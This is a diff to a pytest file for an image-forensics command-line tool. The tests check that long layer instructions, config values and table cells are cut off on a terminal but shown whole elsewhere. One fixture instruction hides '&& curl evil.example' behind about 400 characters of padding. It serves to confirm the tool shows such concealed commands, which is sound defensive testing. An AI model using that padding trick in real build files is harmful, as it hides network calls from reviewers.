@@ -1,9 +1,15 @@
 """Text that is safe, sizes and tables."""
 
+import io
+from pathlib import Path
+
 import pytest
 
 from imgforensics.problems import display
+from imgforensics.testing import ImageBuilder, LayerSpec, file
 from imgforensics_cli.output import brief, counted, human_size, safe_lines, table
+from tests.cli.images import save
+from tests.cli.running import Terminal, run
 
 
 @pytest.mark.parametrize(
@@ -23,11 +29,53 @@ def test_safe_lines() -> None:
     assert safe_lines("one\x1b\n  two\r") == "one\\x1b\n  two\\r"
 
 
-def test_brief() -> None:
-    assert brief("a\n\tb") == "a b"
-    assert brief("x" * 160) == "x" * 160
-    assert brief("x" * 161) == "x" * 160 + "\u2026"
-    assert brief(" " * 10_000 + "x") == "\u2026"
+def test_brief_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("sys.stdout", Terminal(io.BytesIO()))
+    assert brief("a\n\tb", verbose=False) == "a b"
+    assert brief("x" * 160, verbose=False) == "x" * 160
+    assert brief("x" * 161, verbose=False) == "x" * 160 + "\u2026"
+    assert brief(" " * 10_000 + "x", verbose=False) == "\u2026"
+    assert brief(" " * 10_000 + "x" * 161, verbose=True) == "x" * 161
+
+
+def test_nothing_is_cut_in_a_pipe() -> None:
+    assert brief("a\n\t" + "x" * 10_000, verbose=False) == "a " + "x" * 10_000
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("history",),
+        ("history", "/a"),
+        ("inspect",),
+        ("deleted",),
+        ("deleted", "--waste"),
+        ("search", "a", "--long"),
+    ],
+)
+def test_instructions_are_whole_but_on_a_terminal(command: tuple[str, ...], tmp_path: Path) -> None:
+    instruction = "RUN true " + "x " * 200 + "&& curl evil.example"
+    layers = [LayerSpec([file("a", content)], created_by=instruction) for content in (b"1", b"2")]
+    name, *more = command
+    arguments = (name, save(tmp_path, ImageBuilder(layers)), *more)
+    assert instruction in run(*arguments).text
+    assert "curl" not in run(*arguments, terminal=True).text
+    assert instruction in run(*arguments, "-v", terminal=True).text
+
+
+def test_configuration_is_whole_everywhere(tmp_path: Path) -> None:
+    long = "x  " * 200 + "end"
+    config = {"Env": [f"A={long}"], "Labels": {"b": long}, "Entrypoint": [long], "Cmd": [long]}
+    source = save(tmp_path, ImageBuilder([[file("a")]], config=config))
+    for terminal in (False, True):
+        assert run("inspect", source, terminal=terminal).text.count(long) == 4
+
+
+def test_one_wide_cell_widens_no_other_row() -> None:
+    rows = [("x" * 1_000, "end"), ("y", "end")]
+    _, wide, narrow = table(("A", "B"), rows)
+    assert wide == "x" * 1_000 + "  end"
+    assert len(narrow) == 165
 
 
 @pytest.mark.parametrize(
